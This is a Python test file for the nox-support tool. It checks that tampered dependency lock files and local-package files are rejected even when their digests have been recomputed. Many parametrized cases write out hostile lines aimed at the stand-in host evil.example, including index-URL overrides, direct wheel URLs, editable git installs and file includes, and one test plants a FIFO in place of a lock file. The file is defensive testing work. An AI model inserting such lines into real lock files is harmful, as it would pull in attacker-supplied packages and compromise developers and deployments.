"""Locks and local packages files are read against the grammar nox-support writes, nothing else.

The threat model: a contributor edits a committed lock or its ``requirements.local.txt`` and
recomputes every digest nox-support records (they are checksums, not signatures), hoping that
``freshness`` calls the pair fresh while pip, uv or the deploy command obeys the added line.
Each case asserts the exact verdict and message; each would pass today's denylist.
"""

from __future__ import annotations

import hashlib
import json
import os
import threading
from dataclasses import replace
from pathlib import Path

import pytest

from nox_support.lock import digest, lockfile
from nox_support.lock import freshness as fresh
from nox_support.lock.compile.interface import KeepPins
from nox_support.lock.orchestrate import LockArgs, current_digest, lock_service
from nox_support.project import Project
from tests.fakes import FakeCompiler
from tests.repos import local_package, monorepo

KEEP = LockArgs(KeepPins(), force=False)
LOCK = "services/api/requirements.txt"
LOCAL = "requirements.local.txt"
FIX = f'fix: nox -s "lock(api)" and commit {LOCK}'
HASH = "sha256:" + "a" * 64
LOCAL_BODY = (
    "../../libs/common\n    # via -r requirements.in\n"
    f"alpha==1.0 \\\n    --hash={HASH}\n    # via -r requirements.in\n"
)


def _project(tmp_path: Path, *, local: bool = False) -> Project:
    requirements = "alpha\n../../libs/common\n" if local else "alpha\n"
    root = monorepo(tmp_path, {"api": requirements})
    if local:
        local_package(root / "libs/common", "common")
    fake = FakeCompiler(body=LOCAL_BODY) if local else FakeCompiler()
    loaded = Project.load(root)
    project = Project(loaded.root, loaded.settings, loaded.services, fake)
    lock_service(project, project.service("api"), KEEP)
    return project


def _off(line: int, reason: str, excerpt: str, what: str = "lock") -> str:
    shown = excerpt if len(excerpt) <= 60 else excerpt[:60] + "..."  # messages quote at most 60 characters
    return f"line {line} is outside the {what} grammar ({reason}: {shown!r})"


def _with_recomputed_digest(project: Project, text: str) -> str:
    """*text* with every digest recomputed, as someone who read digest.py would."""
    service = project.service("api")
    return lockfile.with_digest_line(
        text, current_digest(project, service, service.main), compiled_by="fake==1.0"
    )


def _describe(project: Project) -> tuple[fresh.Verdict, str]:
    service = project.service("api")
    verdict = fresh.check_layer(project, service, service.main)
    return verdict, fresh.describe(verdict)


def _refused_by_audit_and_tests(project: Project, message: str) -> None:
    service = project.service("api")
    error = fresh.lock_error(project, service, (service.main,))
    assert error is not None
    assert str(error) == f"unusable lock: {message}\n  hint: nothing was installed from it"


# --- The lock: any line outside the grammar, whatever its digest says ---------------------------------


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("--prefer-binary --extra-index-url=http://evil.example/simple", "options"),
        ("--pre --index-url http://evil.example/simple", "options"),
        ("--only-binary=:all: --find-links=http://evil.example/wheels", "options"),
        (f"evil @ http://evil.example/e.whl#sha256={'b' * 64}", "a direct URL"),
        ("evil@https://evil.example/evil-1.0-py3-none-any.whl", "a direct URL"),
        ("-e ./vendor/evil", "an editable requirement"),
        ("--editable=git+https://evil.example/evil.git#egg=evil", "an editable requirement"),
        ("-r ../../evil.txt", "an include of another file"),
        ("--requirement=../../evil.txt", "an include of another file"),
        ("-c ../../evil-constraints.txt", "an include of another file"),
        ("evil", "a requirement not pinned with =="),
        ("evil>=1", "a requirement not pinned with =="),
    ],
    ids=[
        "two-options-prefer-binary-extra-index",
        "two-options-pre-index-url",
        "two-options-only-binary-find-links",
        "direct-url-with-sha256-fragment",
        "direct-url-without-spaces",
        "editable-path",
        "editable-vcs-url",
        "include",
        "include-long-form",
        "constraint",
        "bare-name",
        "lower-bound",
    ],
)
def test_a_line_off_the_grammar_makes_the_lock_unusable_even_with_recomputed_digests(
    tmp_path: Path, line: str, reason: str
) -> None:
    project = _project(tmp_path)
    lock = project.root / LOCK
    lock.write_text(_with_recomputed_digest(project, lock.read_text() + line + "\n"))
    verdict, message = _describe(project)
    excerpt = line.replace(f"#sha256={'b' * 64}", "#sha256=***").replace("#egg=evil", "#egg=***")
    expected = f"api: {LOCK} {_off(11, reason, excerpt)}; {FIX} (it recompiles from the inputs alone)"
    assert isinstance(verdict, fresh.AlteredLock)
    assert message == expected
    _refused_by_audit_and_tests(project, expected)


def test_an_option_between_a_pin_and_its_hashes_is_refused(tmp_path: Path) -> None:
    project = _project(tmp_path)
    lock = project.root / LOCK
    tampered = lock.read_text().replace(
        f"    --hash={HASH}", f"    --hash={HASH} --index-url=http://evil.example/"
    )
    lock.write_text(_with_recomputed_digest(project, tampered))
    _, message = _describe(project)
    reason = "a --hash that is not sha256:<64 lowercase hex>"
    assert message == (
        f"api: {LOCK} {_off(9, reason, f'--hash={HASH} --index-url=http://evil.example/')}; "
        f"{FIX} (it recompiles from the inputs alone)"
    )


# --- requirements.local.txt: covered whole by the lock's digest, in its own grammar ------------


def _local_message(problem: str) -> str:
    return f"api: {LOCK} is fresh but {LOCAL} {problem}; {FIX} and its local packages file"


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("--index-url http://evil.example/simple", "an option"),
        ("--extra-index-url=http://evil.example/simple --trusted-host evil.example", "options"),
        (f"evil==6.6.6 --hash={HASH}", "a line that is not the relative path of a local package"),
        ("evil==6.6.6 \\", "a line that is not the relative path of a local package"),
        ("/abs/evil", "an absolute local path"),
    ],
    ids=["index-url", "two-options", "hashed-pin", "continued-pin", "absolute-path"],
)
def test_a_line_added_to_the_local_file_with_recomputed_digests_is_refused(
    tmp_path: Path, line: str, reason: str
) -> None:
    project = _project(tmp_path, local=True)
    lock, local = project.root / LOCK, project.root / "services/api" / LOCAL
    assert isinstance(_describe(project)[0], fresh.FreshLock)
    old_line = next(x for x in lock.read_text().splitlines() if x.startswith(digest.MARKER))
    extra = f"{line}\n    --hash={HASH}\n" if line.endswith("\\") else f"{line}\n"
    tampered = local.read_text() + extra
    # Every digest recomputed: the local file's (without its digest line) into local=, in both files.
    local_sha = hashlib.sha256(
        "".join(f"{x}\n" for x in tampered.splitlines() if not x.startswith(digest.MARKER)).encode()
    ).hexdigest()
    new_line = old_line.replace(" python=", f" local={local_sha} python=", 1)
    if " local=" in old_line:
        new_line = " ".join(
            w if not w.startswith("local=") else f"local={local_sha}" for w in old_line.split(" ")
        )
    lock.write_text(lock.read_text().replace(old_line, new_line))
    local.write_text(tampered.replace(old_line, new_line))
    number = len(local.read_text().splitlines()) - extra.count("\n") + 1
    excerpt = line
    expected = _local_message(_off(number, reason, excerpt, "local packages file"))
    verdict, message = _describe(project)
    assert isinstance(verdict, fresh.StaleLocalFile)
    assert message == expected
    _refused_by_audit_and_tests(project, expected)


@pytest.mark.parametrize(
    "edit",
    [
        lambda text: text + "../../libs/other\n",
        lambda text: text.replace("../../libs/common\n", "../../libs/common[extra]\n"),
        lambda text: text.replace("../../libs/common\n", ""),
    ],
    ids=["another-local-package", "extras-added", "package-removed"],
)
def test_any_edit_of_the_local_file_is_seen(tmp_path: Path, edit: object) -> None:
    project = _project(tmp_path, local=True)
    local = project.root / "services/api" / LOCAL
    local.write_text(edit(local.read_text()))  # type: ignore[operator]
    verdict, message = _describe(project)
    assert isinstance(verdict, fresh.StaleLocalFile)
    assert message == _local_message(
        "was edited after nox-support wrote it (it no longer matches the local= digest)"
    )


def test_the_audit_installs_nothing_from_a_local_file_with_an_index_option(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from nox_support.audit.session import AuditFailedError, run_audit  # noqa: PLC0415
    from nox_support.venv import sync as venv_sync  # noqa: PLC0415
    from tests.hostile.test_lock_hostile import _AuditSession  # noqa: PLC0415

    def no_install(*_args: object, **_kwargs: object) -> None:
        pytest.fail("an installer was started")

    monkeypatch.setattr(venv_sync, "synced", no_install)
    project = _project(tmp_path, local=True)
    monkeypatch.chdir(project.root)
    local = project.root / "services/api" / LOCAL
    local.write_text(local.read_text() + "--index-url http://evil.example/simple\n")
    with pytest.raises(AuditFailedError):
        run_audit(_AuditSession(), project, "api")  # type: ignore[arg-type]
    report = json.loads((project.root / "reports/audit/api.json").read_text(encoding="utf-8"))
    assert report["status"] == "error"
    problem = _off(12, "an option", "--index-url http://evil.example/simple", "local packages file")
    assert report["errors"] == [
        f"unusable lock: {_local_message(problem)}\n  hint: nothing was installed from it"
    ]


def test_a_local_file_from_before_the_local_digest_is_stale_with_a_clear_message(tmp_path: Path) -> None:
    project = _project(tmp_path, local=True)
    lock, local = project.root / LOCK, project.root / "services/api" / LOCAL
    old_line = next(x for x in lock.read_text().splitlines() if x.startswith(digest.MARKER))
    older = " ".join(w for w in old_line.split(" ") if not w.startswith("local="))
    lock.write_text(lock.read_text().replace(old_line, older))
    local.write_text(local.read_text().replace(old_line, older))
    _, message = _describe(project)
    assert message == _local_message(
        "is not covered by its digest line (written by an older nox-support, which did not record "
        "the local packages file)"
    )
    (outcome,) = lock_service(replace(project), project.service("api"), KEEP)
    assert isinstance(_describe(project)[0], fresh.FreshLock), outcome


def _verdict_in_time(project: Project) -> tuple[fresh.Verdict, str]:
    """The freshness verdict, failing (instead of hanging the suite) if reading blocks."""
    found: list[tuple[fresh.Verdict, str]] = []
    reader = threading.Thread(target=lambda: found.append(_describe(project)), daemon=True)
    reader.start()
    reader.join(timeout=20)
    assert found, "reading the lock blocked (a FIFO waits for a writer forever)"
    return found[0]


@pytest.mark.parametrize("planted", ["requirements.txt", "requirements.local.txt"])
def test_a_fifo_planted_at_a_lock_or_its_local_file_is_refused_at_once(tmp_path: Path, planted: str) -> None:
    project = _project(tmp_path, local=True)
    target = project.root / "services/api" / planted
    target.unlink()
    os.mkfifo(target)
    verdict, message = _verdict_in_time(project)
    assert isinstance(verdict, fresh.UnreadableLock | fresh.StaleLocalFile)
    assert f"{planted} is a FIFO (named pipe), not a regular file" in message
    assert 'nox -s "lock(api)"' in message
